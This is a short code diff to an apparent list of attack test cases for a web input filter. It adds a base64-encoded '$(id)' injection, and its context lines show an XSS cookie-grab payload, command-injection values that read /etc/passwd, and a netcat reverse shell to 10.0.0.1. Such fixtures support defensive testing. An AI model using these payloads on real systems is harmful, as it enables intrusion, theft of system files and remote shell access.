@@ -36,6 +36,8 @@ const attacks: Attack[] = [
   { cls: "xss", where: "query", text: "u=javascript:alert(document.cookie)" },
   { cls: "rce", where: "body:form", text: "host=;cat /etc/passwd" },
   { cls: "rce", where: "query", text: "x=$(id)" },
+  // The same in base64, padded: 8 characters.
+  { cls: "rce", where: "query", text: "x=JChpZCk=" },
   { cls: "rce", where: "body:form", text: "host=example.com;id" },
   { cls: "rce", where: "body:form", text: "host=|nc -e /bin/sh 10.0.0.1 4444" },
   { cls: "rce", where: "body:form", text: "host=8.8.8.8;cat /etc/passwd" },
